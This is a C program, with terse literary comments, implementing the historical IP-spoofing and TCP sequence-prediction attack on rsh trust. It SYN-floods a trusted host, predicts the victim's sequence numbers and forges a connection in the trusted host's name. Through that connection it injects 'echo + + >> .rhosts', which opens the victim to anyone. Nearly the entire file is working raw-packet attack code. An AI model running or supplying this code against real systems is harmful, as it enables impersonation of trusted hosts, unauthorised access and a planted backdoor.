/* The attack on trust (Morris 1985, Bellovin 1989, Mitnick 1994): the server believes whoever has the address of a host that
   it trusts. That host is flooded until it is deaf, so that it cannot disown what is said in its name; then a connection is
   opened in its name, and the number of the answer, which never comes here, is foretold. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ATTACKER "10.0.0.66"
#define TRUSTED "10.0.0.3"
#define VICTIM "10.0.0.2"
#define PORT 514
#define LOGIN 513
#define AWAY "10.0.0.99" /* an address that nobody has */
#define SYN 2
#define ACK 16
#define PSH 8

/* Writes a number into octets, the highest first. */
void put(unsigned char *to, unsigned int n, int octets) {
  while (octets-- > 0)
    *to++ = n >> 8 * octets;
}

/* Adds octets to a sum of ones' complement (RFC 1071). */
unsigned int add(unsigned int sum, const unsigned char *from, int n) {
  int i;

  for (i = 0; i + 1 < n; i += 2)
    sum += from[i] << 8 | from[i + 1];
  return n % 2 ? sum + (from[n - 1] << 8) : sum;
}

/* A segment of TCP under any name: from and to as their octets lie in a datagram. */
void segment(int s, const char *from, int sport, const char *to, int dport, unsigned int seq, unsigned int ack, int flags,
             const char *text) {
  struct sockaddr_in where = {.sin_family = AF_INET};
  unsigned char d[1500] = {0};
  int len = 20 + strlen(text);
  unsigned int sum;

  d[0] = 0x45;
  put(d + 2, 20 + len, 2);
  d[8] = 64;
  d[9] = IPPROTO_TCP;
  inet_pton(AF_INET, from, d + 12);
  inet_pton(AF_INET, to, d + 16);
  put(d + 20, sport, 2);
  put(d + 22, dport, 2);
  put(d + 24, seq, 4);
  put(d + 28, ack, 4);
  d[32] = 5 << 4;
  d[33] = flags;
  put(d + 34, 8192, 2);
  memcpy(d + 40, text, strlen(text));
  sum = add(IPPROTO_TCP + len, d + 12, 8 + len);
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  put(d + 36, ~sum & 0xffff, 2);
  inet_pton(AF_INET, to, &where.sin_addr);
  if (sendto(s, d, 20 + len, 0, (struct sockaddr *)&where, sizeof where) < 0)
    perror("sendto");
}

/* The number with which the victim answers a SYN of ours. Our own host knows nothing of it, and resets what comes of it. */
unsigned int probe(int out, int in, int sport) {
  unsigned char d[1500];
  int n, at;

  segment(out, ATTACKER, sport, VICTIM, PORT, 1, 0, SYN, "");
  for (;;) {
    n = recv(in, d, sizeof d, 0);
    at = (d[0] & 15) * 4;
    if (n >= at + 20 && (d[at + 2] << 8 | d[at + 3]) == sport && d[at + 13] == (SYN | ACK))
      return (unsigned int)d[at + 4] << 24 | d[at + 5] << 16 | d[at + 6] << 8 | d[at + 7];
  }
}

int main(void) {
  int out = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), in = socket(AF_INET, SOCK_RAW, IPPROTO_TCP), i;
  unsigned int first, second, step;

  for (i = 0; i < 12; i++) {
    segment(out, AWAY, 600 + i, TRUSTED, LOGIN, 1000 + i, 0, SYN, "");
    usleep(1000);
  }
  first = probe(out, in, 2000);
  second = probe(out, in, 2001);
  step = second - first;
  printf("%u, then %u: %u on\n", first, second, step);
  segment(out, TRUSTED, LOGIN, VICTIM, PORT, 7000, 0, SYN, "");
  usleep(20000); /* the answer has gone to the host that cannot hear it */
  segment(out, TRUSTED, LOGIN, VICTIM, PORT, 7001, second + step + 1, ACK, "");
  segment(out, TRUSTED, LOGIN, VICTIM, PORT, 7001, second + step + 1, ACK | PSH, "echo + + >> .rhosts\n");
  return 0;
}
